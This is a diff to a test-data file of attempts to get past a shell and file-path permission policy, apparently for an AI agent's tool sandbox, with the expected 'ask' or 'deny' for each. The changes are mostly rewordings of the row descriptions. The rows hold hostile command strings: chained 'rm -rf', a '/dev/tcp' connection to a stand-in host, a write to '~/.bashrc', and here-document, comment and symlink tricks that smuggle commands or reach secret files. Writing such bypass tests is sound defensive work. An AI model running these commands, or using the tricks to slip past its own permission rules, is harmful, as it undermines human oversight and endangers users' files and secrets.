@@ -1,6 +1,6 @@
-"""What has been tried to get past rules, and what a sensible policy must still let through.
+"""Attempts to get past rules, and calls that a sensible policy must still allow.
 
-A row is (what is tried, the rules in force, the raw arguments or the command line, what must come of it). ``ask`` and
+A row is (the attempt, the rules in force, the raw arguments or the command line, the expected answer). ``ask`` and
 ``deny`` both keep the call from running unseen; ``allow`` never is a row's answer in the tables of bypasses.
 """
 
@@ -35,16 +35,16 @@ tools = ["*"]
 
 SHELL = [
     # --- chaining
-    ("a second command behind &&", READING, "git status && rm -rf x", "ask"),
-    ("a second command behind ||", READING, "git status || rm -rf x", "ask"),
-    ("a second command behind ;", READING, "git status; rm -rf x", "ask"),
-    ("a second command behind a pipe", READING, "git status | tee x", "ask"),
-    ("a second command behind |&", READING, "git status |& tee x", "ask"),
-    ("a second command behind &", READING, "git status & rm -rf x", "ask"),
+    ("a second command after &&", READING, "git status && rm -rf x", "ask"),
+    ("a second command after ||", READING, "git status || rm -rf x", "ask"),
+    ("a second command after ;", READING, "git status; rm -rf x", "ask"),
+    ("a second command after a pipe", READING, "git status | tee x", "ask"),
+    ("a second command after |&", READING, "git status |& tee x", "ask"),
+    ("a second command after &", READING, "git status & rm -rf x", "ask"),
     ("left in the background", READING, "git status &", "ask"),
     ("a second line", READING, "git status\nrm -rf x", "ask"),
-    ("a second line behind blanks", READING, "git status   \n\n\n   rm -rf x", "ask"),
-    ("a second line behind a comment", READING, "git status # nothing\nrm -rf x", "ask"),
+    ("a second line after blanks", READING, "git status   \n\n\n   rm -rf x", "ask"),
+    ("a second line after a comment", READING, "git status # nothing\nrm -rf x", "ask"),
     ("no blank around the operator", READING, "git status&&rm -rf x", "ask"),
     ("a group", READING, "{ git status; rm -rf x; }", "ask"),
     ("a subshell", READING, "(git status; rm -rf x)", "ask"),
@@ -115,7 +115,7 @@ SHELL = [
     ("a file written by &>", READING, "git log &>x", "ask"),
     ("a file appended to", READING, "echo evil >> ~/.bashrc", "ask"),
     ("a file opened for both", READING, "cat <> x", "ask"),
-    ("words behind a redirection", READING, "npm >/dev/null publish", "ask"),
+    ("words after a redirection", READING, "npm >/dev/null publish", "ask"),
     ("a connection by redirection", READING, "cat < /dev/tcp/evil.example/80", "ask"),
     ("a pre-processor of rg", READING, "rg --pre ./evil x", "ask"),
     ("a pre-processor of rg, joined", READING, "rg --pre=./evil x", "ask"),
@@ -186,7 +186,7 @@ SHELL = [
     ("flags apart", NO_DESTRUCTION, "rm -f -r x", "deny"),
     ("a long flag", NO_DESTRUCTION, "rm --recursive --force x", "deny"),
     ("an abbreviated flag", NO_DESTRUCTION, "rm --recurs x", "ask"),
-    ("flags behind the operand", NO_DESTRUCTION, "git push origin main -f", "deny"),
+    ("flags after the operand", NO_DESTRUCTION, "git push origin main -f", "deny"),
     ("a value in front of the subcommand", NO_DESTRUCTION, "git -C x push --force", "deny"),
     ("an unknown value in front of the subcommand", NO_DESTRUCTION, "git --attr x push --force", "ask"),
     ("a setting in front of the subcommand", NO_DESTRUCTION, "git -c user.name=x push --force", "deny"),
@@ -241,7 +241,7 @@ SHELL = [
     # --- what is read wrongly by some
     ("an argument joined with a redirection", NO_DESTRUCTION, "rm x -rf2>/dev/null", "ask"),
     ("an argument joined with a here-document", NO_DESTRUCTION, "rm x -rf<<E\nE", "ask"),
-    ("arguments behind a redirection", NO_DESTRUCTION, "rm >/dev/null -rf x", "deny"),
+    ("arguments after a redirection", NO_DESTRUCTION, "rm >/dev/null -rf x", "deny"),
     ("a here-document that ends early", NO_DESTRUCTION, "cat <<E\nE\nrm -rf x\nE", "deny"),
     ("a here-document that ends late", READING, "cat <<'E'\nE \nE\nrm -rf x", "ask"),
     ("a comment that is none", NO_DESTRUCTION, "echo a#b; rm -rf x", "deny"),
@@ -308,7 +308,7 @@ ORDINARY = [
     "for f in a b; do cat $f; done",
     "test -d src && ls src",
     "echo 'rm -rf /' # only words",
-    'echo "$HOME" $((1 + 2)) ${USER:-nobody}',
+    'echo "$HOME" $((1 + 2)) ${USER:-nemo}',
     "(cd src && ls)",
     "{ ls; git status; }",
     "! test -e x",
@@ -490,7 +490,7 @@ PATHS = [
     ("by a symlink to the directory", SECRETS, "src/link-to-secret/key", "deny"),
     ("by a symlink that dangles", SECRETS, "src/dangling", "deny"),
     ("by a chain of symlinks", SECRETS, "src/link-to-link", "deny"),
-    ("dots behind a symlink", SECRETS, "src/link-to-secret/../hidden/key", "deny"),
+    ("dots after a symlink", SECRETS, "src/link-to-secret/../hidden/key", "deny"),
     ("where the denied directory leads", SECRETS, "hidden/key", "deny"),
     ("where the denied directory leads, absolute", SECRETS, "@/hidden/key", "deny"),
     ("a NUL", SECRETS, "x\0.env", "ask"),
